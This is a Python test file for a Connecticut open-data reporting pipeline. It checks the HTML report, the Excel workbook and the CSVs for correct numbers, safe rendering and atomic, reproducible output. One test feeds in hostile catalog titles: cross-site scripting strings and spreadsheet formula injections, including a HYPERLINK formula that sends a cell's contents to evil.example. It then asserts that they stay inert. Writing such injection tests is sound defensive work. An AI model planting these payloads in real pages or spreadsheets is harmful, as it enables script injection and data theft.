"""The Board report as people get it: the HTML page of `ctdata demo` opened from disk in headless
Chromium, the workbook opened with openpyxl, the CSV files read back; hostile catalog text that
stays inert in all three; and a report that is replaced whole or not at all."""

import csv
import zipfile
from datetime import UTC, timedelta
from pathlib import Path

import dagster as dg
import openpyxl

from ctdata_pipeline.board.assets import COLUMN_HEADERS
from ctdata_pipeline.jobs import REPORT_JOB
from ctdata_pipeline.partitions import today_in_new_york
from ctdata_pipeline.report import publish
from ctdata_pipeline.report.assets import REPORT
from ctdata_pipeline.report.data import BOARD_TABLES, PROBE_BOARD_TABLES
from ctdata_pipeline_tests.support import (
    Pipeline,
    files_under,
    portal_entry,
    query,
    serve,
    socrata_record,
)


class Opened:
    """A page opened from disk, with what it asked of the network, said and tried to run."""

    def __init__(self, browser, path: Path) -> None:
        self.page = browser.new_page(viewport={"width": 1280, "height": 900})
        self.requests: list[str] = []
        self.console: list[tuple[str, str]] = []
        self.dialogs: list[str] = []
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on("console", lambda message: self.console.append((message.type, message.text)))
        self.page.on("pageerror", lambda error: self.console.append(("pageerror", str(error))))

        def dismiss(dialog):
            self.dialogs.append(dialog.message)
            dialog.dismiss()

        self.page.on("dialog", dismiss)
        self.page.goto(path.resolve().as_uri(), wait_until="load")


def test_the_demo_report_opens_from_disk_with_its_numbers(demo_run, browser, tmp_path):
    night = today_in_new_york()
    report = demo_run.folder / "reports" / night.isoformat() / "report.html"
    assert str(report) in demo_run.completed.stdout
    opened = Opened(browser, report)
    page = opened.page
    page.screenshot(path=str(tmp_path / "report.png"), full_page=True)
    assert (tmp_path / "report.png").stat().st_size > 50_000

    assert opened.console == []
    assert [url for url in opened.requests if not url.startswith("file://")] == []
    assert len(opened.requests) == 1  # the page itself: no script, style or font is fetched
    # One script, inlined (tables.js: sorting and filtering), none fetched.
    assert page.evaluate("[...document.scripts].map(s => s.src)") == [""]
    title = "Connecticut's open data portals (demo)"  # report: title of the demo's portal file
    assert page.title() == f"{title}: State Data Plan metrics, {night}"

    # Every headline number on the page is the one in board.plan_metrics.
    db = demo_run.folder / "data" / "ctdata.duckdb"
    expected = {
        (portal, metric): value
        for portal, metric, value in query(
            db,
            "SELECT portal, metric, value FROM board.plan_metrics "
            "WHERE snapshot_date = ? AND agency IS NULL",
            [night],
        )
    }
    shown = page.eval_on_selector_all(
        "[data-metric]",
        "nodes => nodes.map(n => "
        "[n.dataset.portal, n.dataset.metric, n.dataset.value, n.textContent])",
    )
    assert {metric for _, metric, _, _ in shown} == {
        "pct_missing_metadata",
        "pct_stale",
        "pct_freshness_unknown",
        "pct_meets_ct_standard",
        "column_doc_coverage",
        "datasets_in_scope",
        # metrics v2: FR-5 (Socrata) or FR-2 by data date and FR-8 (DCAT), and AC-1
        "pct_silently_stale",
        "content_date_coverage",
        "pct_stale_by_data_date",
        "layer_date_coverage",
        "pct_datasets_with_broken_link",
        "pct_links_ok",
    }
    for portal, metric, raw, text in shown:
        if (portal, metric) not in expected:  # no probe measured it (yet)
            assert text == "not yet probed" and raw == ""
            continue
        value = expected[(portal, metric)]
        if value is None:
            assert text == "n/a"
            continue
        assert float(raw) == value
        assert text == (f"{value:.1f}%" if metric != "datasets_in_scope" else f"{value:,.0f}")

    # Charts: one per headline card with a value, each with a text alternative and its numbers.
    charts = page.eval_on_selector_all(
        "figure",
        """nodes => nodes.map(f => ({
            label: f.querySelector('[role=img]').getAttribute('aria-label'),
            svg: !!f.querySelector('svg'),
            rows: f.querySelectorAll('details table tbody tr').length}))""",
    )
    assert len(charts) >= 9  # 5 for the Socrata portal, 4 for the DCAT feed (no MD-5 trend)
    for chart in charts:
        assert chart["svg"] and chart["rows"] >= 1
        assert chart["label"].startswith("Line chart, ") and " went from " in chart["label"]
    md1 = next(c for c in charts if "Datasets missing metadata" in c["label"])
    assert "A dotted line marks plan target: under 20%." in md1["label"]

    # Real table markup: every table has a caption and header cells.
    assert page.evaluate(
        "[...document.querySelectorAll('table')].every(t => t.caption && t.querySelector('th'))"
    )
    # Work lists link each dataset to its page, and only with web addresses.
    links = page.eval_on_selector_all("main a[href]", "nodes => nodes.map(n => n.href)")
    dataset_links = [link for link in links if "/d/" in link]
    assert len(dataset_links) > 100
    assert all(link.startswith("https://") for link in dataset_links)

    # In print, the navigation goes and the figures stay.
    page.emulate_media(media="print")
    assert page.evaluate("getComputedStyle(document.querySelector('nav')).display") == "none"
    pdf = page.pdf()
    assert pdf.startswith(b"%PDF") and len(pdf) > 100_000
    page.close()


def test_the_index_and_latest(demo_run, browser):
    reports = demo_run.folder / "reports"
    night = today_in_new_york().isoformat()
    assert (reports / "latest" / "report.html").read_bytes() == (
        reports / night / "report.html"
    ).read_bytes()
    opened = Opened(browser, reports / "index.html")
    assert opened.console == []
    links = opened.page.eval_on_selector_all(
        "a[href]", "nodes => nodes.map(n => n.getAttribute('href'))"
    )
    assert "latest/report.html" in links and f"{night}/report.html" in links
    assert f"{night}/board.xlsx" in links
    assert {f"{night}/{table}.csv" for table in BOARD_TABLES} <= set(links)
    opened.page.close()


def test_the_reports_metadata_opens_by_path_and_plots_each_portal_rounded(demo_run):
    """board_report's metadata, as the UI shows it: the page as a path (the UI copies it; a
    browser would not follow a file:// link from the UI), and each portal's headline figures
    as numbers under keys that name the portal, rounded as the page prints them."""
    night = today_in_new_york()
    with dg.DagsterInstance.from_config(str(demo_run.folder / "dagster_home")) as instance:
        [record] = instance.fetch_materializations(
            dg.AssetRecordsFilter(REPORT, asset_partitions=[night.isoformat()]), limit=1
        ).records
    metadata = record.asset_materialization.metadata
    report = demo_run.folder / "reports" / night.isoformat() / "report.html"
    assert isinstance(metadata["report"], dg.PathMetadataValue)
    assert Path(metadata["report"].path) == report.resolve() and report.is_file()
    assert not [key for key, value in metadata.items() if "file://" in str(value.value)]

    headline = query(
        demo_run.folder / "data" / "ctdata.duckdb",
        "SELECT portal, metric, value FROM board.plan_metrics WHERE snapshot_date = ? "
        "AND agency IS NULL AND metric IN ('pct_missing_metadata', 'pct_stale', "
        "'datasets_in_scope')",
        [night],
    )
    assert len({portal for portal, _, _ in headline}) == 2 and len(headline) == 6
    for portal, metric, value in headline:
        plotted = metadata[f"{portal}: {metric}"]
        if metric == "datasets_in_scope":
            assert isinstance(plotted, dg.IntMetadataValue) and plotted.value == value
        else:
            assert isinstance(plotted, dg.FloatMetadataValue)
            assert plotted.value == round(value, 1)
    floats = [v.value for v in metadata.values() if isinstance(v, dg.FloatMetadataValue)]
    assert floats and all(v == round(v, 1) for v in floats)


def test_the_workbook_and_csv_hold_every_board_table(demo_run):
    night = today_in_new_york()
    folder = demo_run.folder / "reports" / night.isoformat()
    db = demo_run.folder / "data" / "ctdata.duckdb"
    workbook = openpyxl.load_workbook(folder / "board.xlsx")
    # The probe tables (metrics v2) follow the board tables once the warehouse has them.
    probe_sheets = [t for t in PROBE_BOARD_TABLES if t in workbook.sheetnames]
    assert workbook.sheetnames == ["Summary", *BOARD_TABLES, *probe_sheets, "Definitions"]
    for table in BOARD_TABLES:
        columns = [row[0] for row in query(db, f"DESCRIBE board.{table}")]
        count = query(db, f"SELECT count(*) FROM board.{table} WHERE snapshot_date = ?", [night])
        sheet = workbook[table]
        # The sheet's headers are in words (test_report_files.py); the CSV keeps the names.
        assert [cell.value for cell in sheet[1]] == [COLUMN_HEADERS[c] for c in columns]
        assert sheet.max_row == count[0][0] + 1
        assert sheet.freeze_panes == "A2"
        # Filters are the sheet's Excel table's.
        [excel_table] = sheet.tables.values()
        assert (
            excel_table.autoFilter.ref
            == f"A1:{sheet.cell(1, len(columns)).column_letter}{max(sheet.max_row, 2)}"
        )
        assert sheet["A2"].is_date and sheet["A2"].number_format == "yyyy-mm-dd"
        assert all(sheet.column_dimensions[c.column_letter].width >= 8 for c in sheet[1])
        with (folder / f"{table}.csv").open(encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        assert rows[0] == columns and len(rows) == count[0][0] + 1
    plan = workbook["plan_metrics"]
    header = [cell.value for cell in plan[1]]
    unit, value = header.index(COLUMN_HEADERS["unit"]), header.index(COLUMN_HEADERS["value"])
    formats = {row[unit].value: row[value].number_format for row in plan.iter_rows(min_row=2)}
    assert formats["percent"] == '0.0"%"' and formats["count"] == "General"
    stale = workbook["stale_datasets"]
    updated = [c.value for c in stale[1]].index(COLUMN_HEADERS["data_updated_at"])
    assert stale.cell(2, updated + 1).is_date


# catalog title -> the title as stored and shown. Markup is stripped when a catalog is
# normalized; markup written as entities survives as literal text, and must stay text.
HOSTILE = {
    "xss0-0001": ("<script>alert('title')</script>Overdose deaths", "Overdose deaths"),
    "xss0-0002": (
        "&lt;script&gt;alert('entity')&lt;/script&gt; Births",
        "<script>alert('entity')</script> Births",
    ),
    "xss0-0003": (
        '&lt;img src=x onerror="alert(1)"&gt;Crash reports',
        '<img src=x onerror="alert(1)">Crash reports',
    ),
    "fml0-0001": (
        '=HYPERLINK("http://evil.example/?"&amp;A1,"Click")',
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    ),
    "fml0-0002": ("+1+2 budget", "+1+2 budget"),
    "fml0-0003": ("-3 degrees", "-3 degrees"),
    "fml0-0004": ("@SUM(1,2)", "@SUM(1,2)"),
}
SHOWN = [shown for _, shown in HOSTILE.values()]


def test_hostile_titles_stay_inert_in_html_csv_and_excel(tmp_path, instance, today, browser):
    records = [
        socrata_record(
            asset_id,
            title=catalog_title,
            license=None,
            frequency="Daily",
            data_updated_at=f"{today - timedelta(days=40)}T00:00:00.000Z",
        )
        for asset_id, (catalog_title, _) in HOSTILE.items()
    ]
    records[0]["resource"]["description"] = "<script>alert('description')</script>" + "x" * 120
    for record in records:
        record["permalink"] = "javascript:alert('link')"
        record["link"] = "javascript:alert('link')"
    with serve("socrata", records) as socrata:
        pipeline = Pipeline(tmp_path, [portal_entry("ct", socrata)])
        pipeline.run_ok(instance, today, "ct")
    pipeline.report_ok(instance, today)
    folder = tmp_path / "reports" / today.isoformat()

    opened = Opened(browser, folder / "report.html")
    page = opened.page
    assert opened.dialogs == [] and opened.console == []
    # The page's one script is its own inlined tables.js: no title became a script.
    assert page.evaluate("[...document.scripts].map(s => s.src)") == [""]
    assert "alert" not in page.evaluate("document.scripts[0].textContent")
    assert page.evaluate("document.querySelectorAll('[onerror], img').length") == 0
    assert page.evaluate("document.querySelectorAll('a[href^=\"javascript\"]').length") == 0
    text = page.inner_text("main")
    for title in SHOWN:
        assert title in text  # shown as the text it is
    page.close()

    for table in ("missing_metadata", "stale_datasets"):
        with (folder / f"{table}.csv").open(encoding="utf-8", newline="") as handle:
            titles = {row["title"] for row in csv.DictReader(handle)}
        assert titles == {("'" + title if title[0] in "=+-@" else title) for title in SHOWN}, table
    workbook = openpyxl.load_workbook(folder / "board.xlsx")
    for sheet in workbook:
        assert not [
            cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
        ]
    sheet = workbook["missing_metadata"]
    column = [cell.value for cell in sheet[1]].index(COLUMN_HEADERS["title"]) + 1
    assert {sheet.cell(row, column).value for row in range(2, sheet.max_row + 1)} == set(SHOWN)


def test_a_report_that_fails_half_way_leaves_the_previous_one(
    tmp_path, instance, today, monkeypatch
):
    with serve("socrata", [socrata_record(f"a000-000{i}") for i in range(3)]) as socrata:
        pipeline = Pipeline(tmp_path, [portal_entry("ct", socrata)])
        pipeline.run_ok(instance, today, "ct")
    job = pipeline.defs.resolve_job_def(REPORT_JOB)
    assert job.execute_in_process(partition_key=today.isoformat(), instance=instance).success
    reports = tmp_path / "reports"
    before = {p.relative_to(reports): p.read_bytes() for p in reports.rglob("*") if p.is_file()}

    def disk_full(*args, **kwargs):
        raise OSError("No space left on device")

    monkeypatch.setattr(publish, "write_workbook", disk_full)
    failed = job.execute_in_process(
        partition_key=today.isoformat(), instance=instance, raise_on_error=False
    )
    assert not failed.success
    after = {p.relative_to(reports): p.read_bytes() for p in reports.rglob("*") if p.is_file()}
    assert after == before  # no half-written folder, the previous report untouched


def test_the_report_of_unchanged_data_is_the_same_bytes(tmp_path, instance, today):
    """Every file (the page, the workbook, the CSV files) written twice from the same stored
    night: the report's time is the data's (the harvest's), never the clock's."""
    with serve("socrata", [socrata_record(f"a000-000{i}") for i in range(4)]) as socrata:
        pipeline = Pipeline(tmp_path, [portal_entry("ct", socrata)])
        pipeline.run_ok(instance, today, "ct")
    job = pipeline.defs.resolve_job_def(REPORT_JOB)
    written = []
    for _ in range(2):
        assert job.execute_in_process(partition_key=today.isoformat(), instance=instance).success
        written.append(files_under(tmp_path / "reports"))
    assert written[0] == written[1]
    [harvested] = query(pipeline.db_path, "SELECT snapshot_time FROM catalog.snapshots")
    stamp = harvested[0].astimezone(UTC)
    page = written[0][f"{today}/report.html"].decode()
    assert (
        f'as harvested up to\n  <time datetime="{stamp:%Y-%m-%dT%H:%M:%S}Z" '
        f'title="{stamp:%Y-%m-%d %H:%M} UTC">'
    ) in page
    path = tmp_path / "reports" / today.isoformat() / "board.xlsx"
    workbook = openpyxl.load_workbook(path)
    assert workbook.properties.modified == stamp.replace(tzinfo=None, microsecond=0)
    assert workbook.properties.created == workbook.properties.modified
    # A zip entry's time is kept to two seconds.
    entry_time = stamp.replace(second=stamp.second // 2 * 2).timetuple()[:6]
    with zipfile.ZipFile(path) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {entry_time}
